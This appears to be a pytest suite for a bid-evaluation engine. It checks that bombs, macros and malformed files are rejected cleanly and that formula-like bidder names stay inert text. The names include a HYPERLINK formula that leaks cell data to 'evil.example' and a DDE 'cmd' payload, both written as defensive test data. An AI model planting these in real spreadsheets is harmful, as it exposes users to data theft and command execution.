"""Every hostile or broken input in tests/corpus is refused cleanly; valid-but-hostile text stays text (issue 8).

For each bad input, through the CLI (`evaluate --out`, `validate`) and the Python API: exit code
exactly 1, no traceback, a line naming the file by the path the user gave (not a temporary copy)
and the place, nothing written (not even the --out folder, nor a stray file beside the runs or in
the working folder), and from the API exactly `svengine.InvalidInput` with every problem located.
Each case runs in a forked child under a 1 GiB address-space limit and a 20 s alarm
(tests/corpus_runner.py). Inputs are checked before and after (content, permissions, kind, and
nothing added or removed): nothing is modified.

Marked `corpus` (about two minutes): the README's test command leaves it out so the suite stays
under four minutes, and `.ci/run` runs it as its own step (`pytest -m corpus`) in both environments.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.corpus

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
REPO = HERE.parent
SVENGINE = Path(sys.executable).with_name("svengine")


def manifest() -> dict[str, dict[str, Any]]:
    lines = (CORPUS / "manifest.jsonl").read_text(encoding="utf-8").splitlines()
    return {case["id"]: case for case in map(json.loads, lines)}


def tree_state(root: Path) -> dict[str, str]:
    """Every entry under `root` with its kind, permissions and content: what "unchanged" means for
    inputs (a file's bytes, but also a mode changed, a folder or a link added, a file replaced)."""
    state = {}
    for path in sorted(root.rglob("*")):
        info = path.lstat()
        kind = oct(info.st_mode)
        if path.is_symlink():
            state[str(path.relative_to(root))] = f"{kind} -> {os.readlink(path)}"
        elif path.is_file():
            state[str(path.relative_to(root))] = (
                f"{kind} {hashlib.sha256(path.read_bytes()).hexdigest()}"
            )
        else:
            state[str(path.relative_to(root))] = kind
    return state


def tree_digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


# A YAML file's problem located by JSON path also carries its line and column between the two
# (`tender.yaml:13 (column 8) $.price`).
_YAML_POSITION = re.compile(r":\d+ \(column \d+\)")


def names(where: str, text: str) -> bool:
    """`text` names `where` (a file and its place), a YAML line and column in between allowed."""
    return where in _YAML_POSITION.sub("", text)


def user_file(case: dict[str, Any]) -> str:
    """The case's bad file as the user named it: the runner passes the target's absolute path, so
    a message must name that path (never a temporary copy, a hidden file or a bare name)."""
    return str(CORPUS / case["file"])


def located(case: dict[str, Any], text: str) -> bool:
    """One line of `text` names the case's file, by the path the user gave, followed by its place."""
    return any(names(user_file(case) + case["place"], line) for line in text.splitlines())


def failures(case: dict[str, Any], result: dict[str, Any]) -> list[str]:
    found = [f"a run wrote {name} beside its outputs" for name in result["stray"]]
    for name, run in result["runs"].items():
        if case["expect"] == "ok":
            if run["exit"] != 0:
                found.append(
                    f"{name}: exit {run['exit']} (signal {run['signal']}): {run['stderr'][-500:]}"
                )
            continue
        if run["signal"] is not None:
            found.append(
                f"{name}: killed by signal {run['signal']} after {run['seconds']} s (the guard: 20 s, 1 GiB)"
            )
        elif run["exit"] != 1:
            found.append(f"{name}: exit {run['exit']}, not 1")
        if "Traceback" in run["stderr"] + run["stdout"]:
            found.append(f"{name}: traceback\n{run['stderr'][-1500:]}")
        if not located(case, run["stderr"]):
            found.append(
                f"{name}: no line names {user_file(case) + case['place']!r}:\n{run['stderr'][:600]}"
            )
    api = result["api"]
    if case["expect"] == "ok":
        if api["raised"] is not None:
            found.append(f"api raised {api['raised']}: {api.get('traceback', '')}")
        return found
    if result["out_dir"] is not None:  # not even the --out folder is created
        found.append(f"evaluate wrote {result['out_dir']} (the --out folder exists)")
    if api["raised"] != "InvalidInput":
        found.append(
            f"api raised {api['raised']}, not InvalidInput: {api.get('traceback', '')[-1500:]}"
        )
        return found
    if not all(p["file"] for p in api["problems"]):
        found.append(f"api: a problem without a file: {api['problems']}")
    if not any(names(user_file(case) + case["place"], p["text"]) for p in api["problems"]):
        found.append(
            f"api: no problem names {user_file(case) + case['place']!r}: {[p['text'] for p in api['problems']][:4]}"
        )
    if case.get("code") and case["code"] not in {p["code"] for p in api["problems"]}:
        found.append(
            f"api: no problem has code {case['code']}: {sorted({p['code'] for p in api['problems']})}"
        )
    return found


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    out = tmp_path_factory.mktemp("corpus")
    before = tree_state(CORPUS)
    env = {**os.environ, "OPENBLAS_NUM_THREADS": "1"}
    # The runner sits outside tests/corpus, and cwd is a scratch folder: a stray relative write
    # cannot land in the corpus.
    run = subprocess.run(
        [sys.executable, str(HERE / "corpus_runner.py"), str(CORPUS), str(out / "runs")],
        capture_output=True,
        text=True,
        timeout=900,
        env=env,
        cwd=out,
    )
    assert run.returncode == 0, run.stderr[-3000:]
    assert tree_state(CORPUS) == before, "a corpus input was modified, added or removed by the run"
    # Nothing written anywhere else either: the children's working folder holds only the runs.
    assert sorted(p.name for p in out.iterdir()) == ["runs"], "a run wrote into its working folder"
    return {result["id"]: result for result in json.loads(run.stdout)}


def test_the_corpus_holds_at_least_150_bad_inputs_of_every_kind() -> None:
    cases = manifest()
    bad = [c for c in cases.values() if c["expect"] == "problems"]
    assert len(bad) >= 150
    prefixes = {c["id"].split("-")[0] for c in bad}
    assert {
        "json",
        "yaml",
        "csv",
        "xlsx",
        "zip",
        "xml",
        "type",
        "missing",
        "unknown",
        "dup",
        "currency",
        "ref",
        "file",
        "digits",
        "exp",
        "sign",
        "measure",
    } <= prefixes
    assert {"ok-csv-bom", "ok-formula-names", "ok-formula-ids"} <= set(cases)


def test_the_committed_corpus_is_what_the_generator_writes(tmp_path: Path) -> None:
    sys.path.insert(0, str(CORPUS))
    try:
        import generate  # tests/corpus/generate.py
    finally:
        sys.path.remove(str(CORPUS))
    corpus = generate.generate(tmp_path)
    corpus.write_manifest()
    assert tree_digest(tmp_path) == {
        k: v for k, v in tree_digest(CORPUS).items() if k.startswith(("cases/", "manifest"))
    }


def test_every_case_behaves_as_its_manifest_says(results: dict[str, dict[str, Any]]) -> None:
    cases = manifest()
    assert set(results) == set(cases)
    report = {
        case_id: failures(cases[case_id], result) for case_id, result in sorted(results.items())
    }
    broken = {case_id: found for case_id, found in report.items() if found}
    assert not broken, "\n".join(
        f"{case_id} ({cases[case_id]['what']}):\n  " + "\n  ".join(found)
        for case_id, found in broken.items()
    )


def test_no_case_comes_near_the_guard(results: dict[str, dict[str, Any]]) -> None:
    # The guard is a safety net, not a speed target; a case needing half of it deserves a look.
    slow = {
        case_id: run["seconds"]
        for case_id, result in results.items()
        for run in result["runs"].values()
        if run["seconds"] > 10
    }
    assert not slow


def _guarded() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (1024**3, 1024**3))


SAMPLE = [
    "json-truncated",
    "nan-bare",
    "yaml-alias-bomb",
    "yaml-recursive-alias",
    "csv-latin1",
    "xlsx-row-1048576",
    "zip-bomb-sheet",
    "xml-bomb-sheet",
    "xlsx-macro-inside",
    "xlsx-external-link",
    "file-xlsm",
    "file-bid-dup-key",
    "ok-csv-bom",
]


@pytest.mark.parametrize("case_id", SAMPLE)
def test_the_console_script_says_what_the_harness_says(
    case_id: str, results: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    """A sample through the installed `svengine` executable, in a fresh interpreter, under the same guard."""
    case = manifest()[case_id]
    target = str(CORPUS / case["target"])
    command = (
        ["validate", target]
        if case["kind"] == "file"
        else ["evaluate", target, "--out", str(tmp_path / "out")]
    )
    run = subprocess.run(
        [str(SVENGINE), *command, *case.get("args", [])],
        capture_output=True,
        text=True,
        timeout=20,
        preexec_fn=_guarded,
        cwd=tmp_path,
    )
    harness = results[case_id]["runs"]["validate" if case["kind"] == "file" else "evaluate"]
    assert run.returncode == harness["exit"] == (0 if case["expect"] == "ok" else 1)
    if case["expect"] == "problems":
        assert run.stderr == harness["stderr"]
        assert located(case, run.stderr) and "Traceback" not in run.stderr
        assert not (tmp_path / "out").exists()


# -- valid inputs whose text looks like a formula: evaluated, and written as text everywhere ----------

RISKY_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prices")',
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=1+1",
    "Smith_x0041_ Ltd",
]


_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_ESCAPED = re.compile("_x([0-9A-Fa-f]{4})_")


def text_cells(path: Path) -> tuple[set[str], list[str]]:
    """Every text cell's value in a workbook, decoded as Excel decodes it, and every formula in any cell.

    Read from the XML itself: openpyxl decodes Excel's `_xHHHH_` escapes in some parts and not others,
    so the test applies the rule of ECMA-376 (ST_Xstring) once, left to right, as Excel does.
    """
    texts, formulas = set(), []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith(".xml") or not name.startswith("xl/"):
                continue
            root = ElementTree.fromstring(archive.read(name))
            for item in root.iter(f"{_MAIN}si"):  # shared strings
                texts.add(
                    _ESCAPED.sub(
                        lambda m: chr(int(m.group(1), 16)),
                        "".join(t.text or "" for t in item.iter(f"{_MAIN}t")),
                    )
                )
            for cell in root.iter(f"{_MAIN}c"):
                if cell.get("t") == "inlineStr":
                    texts.add(
                        _ESCAPED.sub(
                            lambda m: chr(int(m.group(1), 16)),
                            "".join(t.text or "" for t in cell.iter(f"{_MAIN}t")),
                        )
                    )
                formula = cell.find(f"{_MAIN}f")
                if formula is not None and formula.text:
                    formulas.append(formula.text)
    return texts, formulas


def run_cli(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(SVENGINE), *argv], capture_output=True, text=True, timeout=60)


def test_formula_like_names_and_comments_are_text_in_the_report(tmp_path: Path) -> None:
    folder = CORPUS / "cases" / "ok-formula-names"
    assert run_cli("evaluate", str(folder), "--out", str(tmp_path)).returncode == 0
    texts, formulas = text_cells(tmp_path / "report.xlsx")
    assert set(RISKY_NAMES) <= texts
    assert "=SUM(1,2)" in texts and "@comment" in texts  # the panel's comments, as typed
    # The report's own formulas are the engine's; none holds a bidder's text.
    assert formulas and not [
        f for f in formulas if "HYPERLINK" in f or "cmd|" in f or "SUM(A1:A9)" in f
    ]
    result = json.loads((tmp_path / "result.json").read_text(encoding="utf-8"))
    assert {bid["bidder_name"] for bid in result["bids"]} == set(RISKY_NAMES)


def test_formula_like_text_is_text_in_the_moderation_workbook(tmp_path: Path) -> None:
    folder = CORPUS / "cases" / "ok-formula-names-panel"
    assert run_cli("panel", str(folder), "--out", str(tmp_path)).returncode == 0
    texts, formulas = text_cells(tmp_path / "moderation.xlsx")
    assert set(RISKY_NAMES) <= texts
    assert {"=1+1", "@A1", '=HYPERLINK("http://evil.example","agreed")'} <= texts
    assert not [f for f in formulas if "HYPERLINK" in f or "cmd|" in f]


def test_formula_like_bidder_ids_are_text_in_the_scores_template(tmp_path: Path) -> None:
    folder = CORPUS / "cases" / "ok-formula-ids"
    assert run_cli("evaluate", str(folder)).returncode == 0
    assert (
        run_cli(
            "template", "scores", str(folder), "--out", str(tmp_path / "scores.xlsx")
        ).returncode
        == 0
    )
    texts, formulas = text_cells(tmp_path / "scores.xlsx")
    assert {"=1+1", "+44", "-7", "@A1"} <= texts
    assert not [f for f in formulas if f.lstrip("=") in ("1+1", "+44", "-7", "@A1", "A1")]
    # ... and reading the filled template back gives the same ids.
    copy = tmp_path / "folder"
    shutil.copytree(folder, copy)
    (copy / "scores.csv").unlink()
    workbook = load_workbook(tmp_path / "scores.xlsx")
    sheet = workbook["Scores"]
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row, 1).value:
            sheet.cell(row, 4).value = 3
    workbook.save(copy / "scores.xlsx")
    assert run_cli("validate", str(copy)).returncode == 0


def test_the_checks_catch_every_gap() -> None:
    """`failures` itself: each promise broken on purpose is reported (the corpus passing proves
    nothing if the checks cannot fail)."""
    case = manifest()["json-truncated"]
    message = f"{user_file(case)}:1: this is not valid JSON"
    clean_run = {"exit": 1, "signal": None, "seconds": 0.1, "stdout": "", "stderr": message}
    api = {
        "raised": "InvalidInput",
        "problems": [{"code": "malformed_json", "text": message, "file": user_file(case)}],
    }

    def result(**changes: Any) -> dict[str, Any]:
        runs = {"validate": dict(clean_run), "evaluate": dict(clean_run)}
        base = {"runs": runs, "out_dir": None, "api": dict(api), "stray": []}
        for key, value in changes.items():
            if key in ("exit", "stderr"):
                runs["evaluate"][key] = value
            else:
                base[key] = value
        return base

    assert failures(case, result()) == []
    assert failures(case, result(exit=2)) == ["evaluate: exit 2, not 1"]
    assert failures(case, result(exit=70))
    # a message naming a temporary copy or a bare name, not the user's path
    assert failures(case, result(stderr="/tmp/x/cases/json-truncated/bids/B1.json:1: bad"))
    assert failures(case, result(stderr="B1.json:1: bad"))
    assert failures(case, result(out_dir=[]))  # an empty --out folder was created
    assert failures(case, result(out_dir=["result.json"]))
    assert failures(case, result(stray=["result.json"]))
    assert failures(case, result(api={**api, "raised": "ValueError"}))
